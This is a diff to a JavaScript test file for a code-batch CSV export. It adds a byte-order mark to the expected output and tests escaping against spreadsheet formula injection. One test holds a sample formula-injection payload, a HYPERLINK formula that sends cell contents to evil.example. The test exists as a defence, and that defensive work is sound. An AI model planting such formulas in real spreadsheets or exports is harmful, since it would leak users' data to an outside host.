@@ -42,7 +42,7 @@ it("the file with a batch's codes is returned once, and exports list their state
   });
   expect(codesIn(exported.content.csv)).toEqual([]);
   const [head, one, two] = exported.content.csv.split('\r\n');
-  expect(head).toBe('"number","ends_with","label","uses","used","last_redeemed"');
+  expect(head).toBe('\uFEFF"number","ends_with","label","uses","used","last_redeemed"');
   expect(one).toMatch(
     new RegExp(`^"1","${first.slice(-4)}","Members, spring","1","1","\\d{4}-.*Z"$`),
   );
@@ -54,8 +54,8 @@ it('no cell of the file is interpreted as a formula', async () => {
   const { body } = await createCodes(shop.api, { label: attack });
   expect(body.content.csv).toContain('"\'=HYPERLINK(""https://evil.example?""&A1,""click"")"');
   for (const value of ['=1', '+1', '-1', '@SUM(A1)', ' =1', '\t=1', '\r=1', '＝1'])
-    expect(csvOf([[value]])).toBe(`"'${value}"\r\n`);
-  expect(csvOf([['plain', 7, 'a "b"']])).toBe('"plain","7","a ""b"""\r\n');
+    expect(csvOf([[value]])).toBe(`\uFEFF"'${value}"\r\n`);
+  expect(csvOf([['plain', 7, 'a "b"']])).toBe('\uFEFF"plain","7","a ""b"""\r\n');
 });
 
 it('a batch needs an existing product and an operator', async () => {
